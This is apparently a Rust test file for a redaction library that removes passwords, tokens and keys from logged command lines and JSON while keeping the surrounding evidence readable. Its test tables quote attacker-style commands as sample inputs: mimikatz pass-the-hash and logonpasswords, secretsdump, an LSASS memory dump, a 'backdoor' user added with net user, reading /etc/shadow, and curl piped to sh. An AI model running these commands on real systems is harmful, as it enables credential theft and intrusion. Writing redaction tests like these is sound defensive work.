use super::*;
use proptest::prelude::*;
use serde_json::{Value, json};

fn kept() -> Redactor {
    Redactor::new(Personal::Kept)
}

/// Texts with secrets, and what is left of them.
const REDACTED: &[(&str, &str)] = &[
    // options with a long name
    ("deploy --password=S3cret! --force", "deploy --password=[redacted:password] --force"),
    ("deploy --password S3cret! --force", "deploy --password [redacted:password] --force"),
    ("deploy --db-password 'two words' x", "deploy --db-password '[redacted:password]' x"),
    ("sh -c \"tool --token=abc123\" next", "sh -c \"tool --token=[redacted:token]\" next"),
    ("tool --api-key k --apikey=k2", "tool --api-key [redacted:key] --apikey=[redacted:key]"),
    ("gpg --batch --passphrase hunter2 -d x.gpg", "gpg --batch --passphrase [redacted:password] -d x.gpg"),
    ("wget --http-password=pa&ss;word http://x", "wget --http-password=[redacted:password] http://x"),
    ("tool --client-secret \"a b\"", "tool --client-secret \"[redacted:secret]\""),
    ("Connect-Thing -Password Winter2024! -Force", "Connect-Thing -Password [redacted:password] -Force"),
    ("plink.exe -ssh u@h -pw hunter2 ls", "plink.exe -ssh u@h -pw [redacted:password] ls"),
    ("cmdkey /add:srv /user:adm /pass:P@ss", "cmdkey /add:srv /user:adm /pass:[redacted:password]"),
    (
        "wmic /node:h /user:adm /password:\"P ss\" process list",
        "wmic /node:h /user:adm /password:\"[redacted:password]\" process list",
    ),
    ("keytool -storepass changeit -alias a", "keytool -storepass [redacted:password] -alias a"),
    ("openssl rsa -passin pass:hunter2 -in k", "openssl rsa -passin pass:[redacted:password] -in k"),
    ("sekurlsa::pth /user:a /ntlm:cc36cf7a8514893efccd332446158b1a", "sekurlsa::pth /user:a /ntlm:[redacted:password]"),
    // programs with short options
    ("mysql -u root -pS3cret db", "mysql -u root -p[redacted:password] db"),
    ("mysqldump.exe -p'two words' db", "mysqldump.exe -p'[redacted:password]' db"),
    ("bash -c 'mysql -uroot -phunter2' && id", "bash -c 'mysql -uroot -p[redacted:password]' && id"),
    ("sshpass -p hunter2 ssh -p 22 u@h", "sshpass -p [redacted:password] ssh -p 22 u@h"),
    ("sshpass -phunter2 ssh u@h", "sshpass -p[redacted:password] ssh u@h"),
    ("curl -s -u bot:hunter2 https://x.test", "curl -s -u bot:[redacted:password] https://x.test"),
    ("curl --user 'bot:hun ter' https://x.test", "curl --user 'bot:[redacted:password]' https://x.test"),
    ("curl -ubot:hunter2 https://x.test", "curl -ubot:[redacted:password] https://x.test"),
    ("curl --proxy-user=a:b https://x.test", "curl --proxy-user=a:[redacted:password] https://x.test"),
    ("net user svc P@ssw0rd! /add", "net user svc [redacted:password] /add"),
    (
        "C:\\Windows\\System32\\net1.exe user svc \"P ss\" /add /domain",
        "C:\\Windows\\System32\\net1.exe user svc \"[redacted:password]\" /add /domain",
    ),
    ("cmd /c net user /add svc P@ssw0rd", "cmd /c net user /add svc [redacted:password]"),
    ("net use Z: \\\\srv\\c$ P@ss /user:corp\\adm", "net use Z: \\\\srv\\c$ [redacted:password] /user:corp\\adm"),
    ("net use \\\\srv\\c$ /user:corp\\adm P@ss", "net use \\\\srv\\c$ /user:corp\\adm [redacted:password]"),
    ("PsExec64.exe \\\\srv -u adm -p P@ss cmd", "PsExec64.exe \\\\srv -u adm -p [redacted:password] cmd"),
    ("nxc smb 10.0.0.0/24 -u adm -p 'P@ss' --shares", "nxc smb 10.0.0.0/24 -u adm -p '[redacted:password]' --shares"),
    ("python3 secretsdump.py corp/adm:P@ss@10.0.0.1", "python3 secretsdump.py corp/adm:[redacted:password]@10.0.0.1"),
    ("smbclient -U adm%P@ss //srv/c$", "smbclient -U adm%[redacted:password] //srv/c$"),
    ("docker login -u bot -p hunter2 reg.test", "docker login -u bot -p [redacted:password] reg.test"),
    ("7z a -pS3cret out.7z C:\\loot", "7z a -p[redacted:password] out.7z C:\\loot"),
    ("rar a -hpS3cret out.rar loot", "rar a -hp[redacted:password] out.rar loot"),
    ("sqlcmd -S srv -U sa -P P@ss -Q x", "sqlcmd -S srv -U sa -P [redacted:password] -Q x"),
    ("redis-cli -p 6379 -a hunter2 ping", "redis-cli -p 6379 -a [redacted:password] ping"),
    ("ldapsearch -x -D cn=a -w hunter2 -b dc=x", "ldapsearch -x -D cn=a -w [redacted:password] -b dc=x"),
    ("schtasks /create /ru adm /rp P@ss /tn x", "schtasks /create /ru adm /rp [redacted:password] /tn x"),
    ("xfreerdp /v:srv /u:adm /p:P@ss", "xfreerdp /v:srv /u:adm /p:[redacted:password]"),
    ("htpasswd -cb users bot hunter2", "htpasswd -cb users bot [redacted:password]"),
    ("echo 'root:hunter2' | chpasswd", "echo 'root:[redacted:password]' | chpasswd"),
    ("echo hunter2 | sudo -S id", "echo [redacted:password] | sudo -S id"),
    // assignments
    ("PGPASSWORD=hunter2 psql -h db", "PGPASSWORD=[redacted:password] psql -h db"),
    ("export MYSQL_PWD='a b'; mysql", "export MYSQL_PWD='[redacted:password]'; mysql"),
    ("DB_PASS=x1;ls", "DB_PASS=[redacted:password];ls"),
    (
        "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY aws s3 ls",
        "AWS_SECRET_ACCESS_KEY=[redacted:key] aws s3 ls",
    ),
    (
        "aws configure set aws_secret_access_key wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "aws configure set aws_secret_access_key [redacted:key]",
    ),
    (
        "Server=db;User Id=sa;Password=P@ss w;Encrypt=true",
        "Server=db;User Id=sa;Password=[redacted:password] w;Encrypt=true",
    ),
    ("Server=db;Uid=sa;Pwd=P@ss;Encrypt=true", "Server=db;Uid=sa;Pwd=[redacted:password];Encrypt=true"),
    (
        "AccountName=a;AccountKey=abc/def+g==;EndpointSuffix=x",
        "AccountName=a;AccountKey=[redacted:key];EndpointSuffix=x",
    ),
    (
        "Endpoint=sb://x/;SharedAccessKeyName=k;SharedAccessKey=abc=",
        "Endpoint=sb://x/;SharedAccessKeyName=k;SharedAccessKey=[redacted:key]",
    ),
    ("https://x.test/cb?access_token=abc.def&state=1", "https://x.test/cb?access_token=[redacted:token]&state=1"),
    (
        "https://a.blob.core.windows.net/c/f?sv=2022&sig=abcDEF%2Bghi123456789%3D&se=1",
        "https://a.blob.core.windows.net/c/f?sv=2022&sig=[redacted:key]&se=1",
    ),
    ("$password = 'hunter2'", "$password = '[redacted:password]'"),
    ("password: hunter2", "password: [redacted:password]"),
    (
        "{\\\"password\\\":\\\"hun ter\\\",\\\"user\\\":\\\"x\\\"}",
        "{\\\"password\\\":\\\"[redacted:password]\\\",\\\"user\\\":\\\"x\\\"}",
    ),
    ("{'api_key': 'abc', 'n': 1}", "{'api_key': '[redacted:key]', 'n': 1}"),
    ("$cfg['password'] = 'hunter2';", "$cfg['password'] = '[redacted:password]';"),
    ("<Password>hunter2</Password>", "<Password>[redacted:password]</Password>"),
    ("sc config x obj= .\\svc password= hunter2", "sc config x obj= .\\svc password= [redacted:password]"),
    // PowerShell
    (
        "ConvertTo-SecureString 'P@ss' -AsPlainText -Force",
        "ConvertTo-SecureString '[redacted:password]' -AsPlainText -Force",
    ),
    (
        "ConvertTo-SecureString -String \"P@ss\" -AsPlainText",
        "ConvertTo-SecureString -String \"[redacted:password]\" -AsPlainText",
    ),
    (
        "New-LocalUser x -Password (ConvertTo-SecureString P@ss -AsPlainText -Force)",
        "New-LocalUser x -Password (ConvertTo-SecureString [redacted:password] -AsPlainText -Force)",
    ),
    (
        "New-Object Net.NetworkCredential('u','P@ss','d')",
        "New-Object Net.NetworkCredential('u','[redacted:password]','d')",
    ),
    ("$u.SetPassword(\"P@ss\")", "$u.SetPassword(\"[redacted:password]\")"),
    // headers
    (
        "curl -H \"Authorization: Bearer abc123def\" https://x.test",
        "curl -H \"Authorization: Bearer [redacted:token]\" https://x.test",
    ),
    ("curl -H 'Authorization: Basic Ym90Omh1bnRlcjI=' x", "curl -H 'Authorization: Basic [redacted:token]' x"),
    (
        "Authorization: Digest username=\"a\", response=\"b\"\nHost: x",
        "Authorization: Digest [redacted:token]\"a\", response=\"b\"\nHost: x",
    ),
    ("Proxy-Authorization: abcdef\r\nHost: x", "Proxy-Authorization: [redacted:token]\r\nHost: x"),
    ("-H 'X-Api-Key: abc123'", "-H 'X-Api-Key: [redacted:key]'"),
    ("-H 'Cookie: sid=1; x=2' https://x", "-H 'Cookie: [redacted:cookie]' https://x"),
    ("Basic Ym90Omh1bnRlcjI=", "Basic [redacted:password]"),
    // as they come in alerts
    (
        "\"C:\\Program Files\\MySQL\\bin\\mysqldump.exe\" -u root --password=Secret1 --all-databases",
        "\"C:\\Program Files\\MySQL\\bin\\mysqldump.exe\" -u root --password=[redacted:password] --all-databases",
    ),
    (
        "\"C:\\Windows\\system32\\net.exe\" user backdoor Passw0rd! /add",
        "\"C:\\Windows\\system32\\net.exe\" user backdoor [redacted:password] /add",
    ),
    (
        "cmd.exe /c \"net use \\\\10.0.0.5\\IPC$ Winter2024 /user:CORP\\adm\"",
        "cmd.exe /c \"net use \\\\10.0.0.5\\IPC$ [redacted:password] /user:CORP\\adm\"",
    ),
    ("/bin/sh -c curl -u admin:s3cr3t http://h/x | sh", "/bin/sh -c curl -u admin:[redacted:password] http://h/x | sh"),
    ("wget --user=a --password='p w' http://h", "wget --user=a --password='[redacted:password]' http://h"),
    (
        "docker run -e POSTGRES_PASSWORD=hunter2 -p 5432:5432 postgres",
        "docker run -e POSTGRES_PASSWORD=[redacted:password] -p 5432:5432 postgres",
    ),
    ("kubectl --token=abc.def get pods", "kubectl --token=[redacted:token] get pods"),
    (
        "helm upgrade --set db.password=hunter2,db.user=x",
        "helm upgrade --set db.password=[redacted:password],db.user=x",
    ),
    (
        "mongodb+srv://u:p%40ss@cluster0.x.mongodb.net/db",
        "mongodb+srv://u:[redacted:password]@cluster0.x.mongodb.net/db",
    ),
    ("redis://:hunter2@localhost:6379/0", "redis://:[redacted:password]@localhost:6379/0"),
    ("sshpass -e -p 'x y' scp a h:", "sshpass -e -p '[redacted:password]' scp a h:"),
    (
        "psexec \\\\srv -u CORP\\adm -p \"P ss\" -s cmd.exe",
        "psexec \\\\srv -u CORP\\adm -p \"[redacted:password]\" -s cmd.exe",
    ),
    (
        "WMIC.exe /user:adm /password:P@ss /node:h os get",
        "WMIC.exe /user:adm /password:[redacted:password] /node:h os get",
    ),
    (
        "Invoke-RestMethod -Headers @{Authorization='Bearer abcdefgh12345678'}",
        "Invoke-RestMethod -Headers @{Authorization='Bearer [redacted:token]'}",
    ),
    ("$headers = @{ 'X-API-Key' = 'abc123' }", "$headers = @{ 'X-API-Key' = '[redacted:key]' }"),
    (
        "[System.Net.NetworkCredential]::new(\"u\", \"P@ss\")",
        "[System.Net.NetworkCredential]::new(\"u\", \"[redacted:password]\")",
    ),
    (
        "aws configure set aws_session_token FwoGZXIvYXdzEBYaDKexampleexample",
        "aws configure set aws_session_token [redacted:key]",
    ),
    ("aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "aws_secret_access_key = [redacted:key]"),
    ("sysadminctl -addUser x -password hunter2 -admin", "sysadminctl -addUser x -password [redacted:password] -admin"),
    ("echo root:hunter2|chpasswd", "echo root:[redacted:password]|chpasswd"),
    ("useradd -m -p $6$abc$def x", "useradd -m -p [redacted:password] x"),
    ("mysql --user=root --password=\\\"a b\\\" db", "mysql --user=root --password=\\\"[redacted:password]\\\" db"),
    (
        "powershell -c \"$p='x'; net user svc 'P ss' /add\"",
        "powershell -c \"$p='x'; net user svc '[redacted:password]' /add\"",
    ),
    // shapes
    ("x eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_1 y", "x [redacted:jwt] y"),
    ("AKIAIOSFODNN7EXAMPLE", "[redacted:key]"),
    (
        "git clone https://x:ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/o/r",
        "git clone https://x:[redacted:token]@github.com/o/r",
    ),
    (
        "git clone https://ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/o/r",
        "git clone https://[redacted:token]@github.com/o/r",
    ),
    ("glpat-abcdefghijklmnopqrst", "[redacted:token]"),
    ("xoxb-123456789012-abcdefghij", "[redacted:token]"),
    ("sk_live_abcdefghij0123456789", "[redacted:token]"),
    ("sk-proj-abcdefghij0123456789abcd", "[redacted:key]"),
    ("AIzaSyA0123456789abcdefghijklmnopqrstuvw", "[redacted:key]"),
    (
        "https://discord.com/api/webhooks/123456/abcDEF-ghi_jkl",
        "https://discord.com/api/webhooks/123456/[redacted:token]",
    ),
    ("postgres://app:p@ss@db:5432/x?y=z", "postgres://app:[redacted:password]@db:5432/x?y=z"),
    ("ftp://bot:hunter2@files.test/", "ftp://bot:[redacted:password]@files.test/"),
    ("a -----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY----- b", "a [redacted:private-key] b"),
    ("a -----BEGIN OPENSSH PRIVATE KEY-----\\nb3Bl", "a [redacted:private-key]"),
];

/// Texts that look a little like it, and are evidence.
const KEPT: &[&str] = &[
    "ssh -p 22 root@10.0.0.1",
    "nc -lvp 4444",
    "mkdir -p /var/tmp/.x",
    "cp -p a b",
    "docker run -p 8080:80 nginx",
    "nmap -p 1-65535 10.0.0.0/24",
    "psql -p 5432 -h db",
    "mysql -P 3306 -h db -u root",
    "mysql -p -u root",
    "mysql -u root --port=3306 -protocol tcp",
    "redis-cli -p 6379 ping",
    "scp -P 2222 a h:b",
    "tool --token-file /run/secrets/token --password-file=/etc/pw",
    "docker login --password-stdin",
    "docker build --secret id=npm,src=.npmrc .",
    "sudo mysql --password -u root",
    "openssl rsa -passin env:PASS -in k",
    "type C:\\Users\\a\\passwords.txt",
    "notepad.exe \"C:\\Users\\a\\my password list.docx\"",
    "cat /etc/passwd; cat /etc/shadow",
    "cat: /etc/passwd: Permission denied",
    "powershell -ExecutionPolicy Bypass -File x.ps1",
    "sekurlsa::logonpasswords",
    "privilege::debug token::elevate lsadump::secrets",
    "System.Management, Version=4.0.0.0, PublicKeyToken=31bf3856ad364e35",
    "net user",
    "net user Administrator",
    "net user svc /delete",
    "net user svc * /add",
    "net use Z: /delete",
    "net localgroup administrators svc /add",
    "net use \\\\srv\\ipc$",
    "Get-Credential -UserName x -Password $cred",
    "tool --password=${DB_PASSWORD} --token $env:TOKEN --secret %SECRET%",
    "tool --password=$(cat /run/secret)",
    "PWD=/root OLDPWD=/tmp ls",
    "http://host:8080/path@x",
    "curl http://10.0.0.1:8443/a",
    "curl -u bot https://x.test",
    "ssh://git@github.com/o/r",
    "user ALL=(ALL) NOPASSWD: ALL",
    "basic authentication failed, bearer of bad news, Basic training",
    "unexpected token: end of file",
    "max_tokens=1000 token_type=bearer",
    "password=****** token=null",
    "if ($token -eq $null) { exit }",
    "$token = Get-AccessToken -Resource x",
    "token == other",
    "task-manager-disk-cleanup-utility-run",
    "risk-sk-based-on-many-hyphenated-words",
    "tasklist /p",
    "runas /savecred /user:adm cmd",
    "passwd root",
    "rundll32.exe comsvcs.dll, MiniDump 624 out.dmp full",
    "schtasks /create /tn x /tr calc /sc minute",
    "keyword: value; secretary: here",
    "compass=north bypass=1",
];

#[test]
fn secrets_are_replaced_and_the_rest_stays_readable() {
    let wrong: Vec<String> = REDACTED
        .iter()
        .filter_map(|(text, expected)| {
            let redacted = kept().text(text);
            (redacted != *expected).then(|| format!("{text}\n   got {redacted}\n  want {expected}"))
        })
        .collect();
    assert!(wrong.is_empty(), "{} of {}:\n{}", wrong.len(), REDACTED.len(), wrong.join("\n"));
}

#[test]
fn ports_paths_file_names_and_prose_are_evidence() {
    let wrong: Vec<String> = KEPT
        .iter()
        .filter_map(|text| {
            let redacted = kept().text(text);
            (redacted != *text).then(|| format!("{text}\n   got {redacted}"))
        })
        .collect();
    assert!(wrong.is_empty(), "{} of {}:\n{}", wrong.len(), KEPT.len(), wrong.join("\n"));
}

#[test]
fn addresses_of_people_are_taken_out_only_on_request() {
    let text = "mail from eve.adams@mail.example.org to CORP\\eve";
    assert_eq!(kept().text(text), text);
    assert_eq!(Redactor::new(Personal::Emails).text(text), "mail from [redacted:email] to CORP\\eve");
}

#[test]
fn a_document_keeps_its_shape_its_order_and_its_digits() {
    let document = concat!(
        r#"{ "pid": 18446744073709551616, "score": 0.10, "e": 1E5, "token": "abc", "cmd": "mysql -pS3cret \"x\"","#,
        "\n \"env\": [ {\"name\":\"DB_PASSWORD\",\"value\":\"hunter2\"}, {\"value\":\"y\",\"name\":\"HOME\"} ],",
        r#" "argv": ["sshpass", "-p", "hunter2", "ssh", "-p", "22", "h"], "password": 1234, "secret": null }"#,
    );
    let expected = concat!(
        r#"{ "pid": 18446744073709551616, "score": 0.10, "e": 1E5, "token": "[redacted:token]", "cmd": "mysql -p[redacted:password] \"x\"","#,
        "\n \"env\": [ {\"name\":\"DB_PASSWORD\",\"value\":\"[redacted:password]\"}, {\"value\":\"y\",\"name\":\"HOME\"} ],",
        r#" "argv": ["sshpass", "-p", "[redacted:password]", "ssh", "-p", "22", "h"], "password": "[redacted:password]", "secret": null }"#,
    );
    assert_eq!(kept().json(document).unwrap(), expected);
    assert_eq!(kept().json(expected).unwrap(), expected);
    assert_eq!(kept().json("{\"a\": tru"), Err(NotJson));
    assert_eq!(kept().json(""), Err(NotJson));
}

#[test]
fn a_key_of_a_member_is_redacted_too_and_members_do_not_collide() {
    let redacted = kept().json(r#"{"AKIAIOSFODNN7EXAMPLE":1,"AKIAIOSFODNN7EXAMPLF":2}"#).unwrap();
    let value: Value = serde_json::from_str(&redacted).unwrap();
    assert_eq!(value.as_object().unwrap().len(), 2, "{redacted}");
    assert!(!redacted.contains("AKIA"), "{redacted}");
    assert_eq!(kept().json(&redacted).unwrap(), redacted);
}

#[test]
fn a_text_made_to_be_slow_is_not() {
    let (many, long) = (20_000, 64 * 1024);
    for unit in [
        "mysql ",
        "password=",
        "--password ",
        "net user ",
        "://a:",
        "token:'",
        "echo a",
        "-----BEGIN PRIVATE KEY-----",
        "eyJaaaaa.",
        "\"",
        "\\\"",
        "a@",
        "Authorization: ",
        "curl -u ",
        "bearer ",
    ] {
        let text: String = unit.repeat(many).chars().take(long).collect();
        let began = std::time::Instant::now();
        let _ = Redactor::new(Personal::Emails).text(&text);
        // Unoptimised, on a busy machine; what is quadratic takes minutes.
        assert!(began.elapsed().as_secs() < 60, "{unit}: {:?}", began.elapsed());
    }
}

fn pieces() -> impl Strategy<Value = String> {
    let words: Vec<&'static str> = vec![
        "password",
        "--password",
        "-p",
        "=",
        ":",
        " ",
        "  ",
        "\"",
        "'",
        "\\\"",
        "\\",
        "mysql",
        "net user",
        "net use",
        "curl",
        "-u",
        "a:b",
        "token",
        "$x",
        "[redacted:password]",
        "[redacted:token]",
        "[redacted:",
        "]",
        "://",
        "@",
        "Authorization: ",
        "Bearer ",
        "eyJaaaaaa.eyJbbbb.c",
        "hunter2",
        "ghp_aaaaaaaaaaaaaaaaaaaaaaaa",
        ";",
        "&",
        ",",
        "|",
        "\n",
        "é",
        "{",
        "}",
        "(",
        ")",
        "/p",
        "/",
        "x",
        "1",
        "-----BEGIN PRIVATE KEY-----",
        "-----END PRIVATE KEY-----",
        "secret",
        "pwd",
        "api_key",
        "<",
        ">",
        "sshpass",
        "echo ",
        "chpasswd",
        "a@b.cd",
    ];
    proptest::collection::vec(proptest::sample::select(words), 0..14).prop_map(|words| words.concat())
}

fn document() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        pieces().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
    ];
    leaf.prop_recursive(4, 40, 6, |inner| {
        prop_oneof![
            proptest::collection::vec(inner.clone(), 0..6).prop_map(Value::from),
            proptest::collection::btree_map(
                prop_oneof![pieces(), Just("name".to_owned()), Just("value".to_owned())],
                inner,
                0..6
            )
            .prop_map(|members| json!(members)),
        ]
    })
}

/// Whether two documents differ in strings (and passwords that were numbers) only.
fn same_shape(a: &Value, b: &Value) -> bool {
    match (a, b) {
        (Value::Array(a), Value::Array(b)) => a.len() == b.len() && a.iter().zip(b).all(|(a, b)| same_shape(a, b)),
        (Value::Object(a), Value::Object(b)) => a.len() == b.len(),
        (Value::String(_) | Value::Number(_), Value::String(_)) => true,
        (a, b) => a == b,
    }
}

#[test]
fn what_a_mark_makes_readable_is_redacted_at_once() {
    let document = json!(["Authorization: ", "\\-----BEGIN PRIVATE KEY-----"]).to_string();
    assert_eq!(kept().json(&document).unwrap(), r#"["Authorization: ","[redacted:token]"]"#);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(500))]

    #[test]
    fn redacting_twice_changes_nothing(text in pieces()) {
        let redactor = Redactor::new(Personal::Emails);
        let once = redactor.text(&text).into_owned();
        prop_assert_eq!(redactor.text(&once), once.as_str(), "of {:?}", text);
    }

    #[test]
    fn any_text_is_taken(text in ".{0,120}") {
        let once = kept().text(&text).into_owned();
        prop_assert_eq!(kept().text(&once), once.as_str());
    }

    #[test]
    fn a_document_stays_one_and_redacting_it_twice_changes_nothing(value in document()) {
        let text = value.to_string();
        let once = kept().json(&text).unwrap();
        let parsed: Value = serde_json::from_str(&once).unwrap();
        prop_assert!(same_shape(&value, &parsed), "{} {}", text, once);
        prop_assert_eq!(kept().json(&once).unwrap(), once.as_str(), "of {}", text);
    }

    #[test]
    fn a_string_that_is_json_itself_stays_json(value in document()) {
        let text = value.to_string();
        let redacted = kept().text(&text).into_owned();
        prop_assert!(serde_json::from_str::<Value>(&redacted).is_ok(), "{} became {}", text, redacted);
    }

    #[test]
    fn a_random_password_in_a_known_place_is_gone(password in "[A-Za-z0-9!@%^*_+~]{6,20}[0-9]") {
        for template in ["mysql -p{}", "net user svc {} /add", "curl -u bot:{} https://x", "PGPASSWORD={} psql", "x --password {}", "x /pass:{}", "Password={};x=y", "postgres://u:{}@h/d"] {
            let text = template.replace("{}", &password);
            let redacted = kept().text(&text).into_owned();
            prop_assert!(!redacted.contains(&password), "{}", redacted);
        }
    }
}
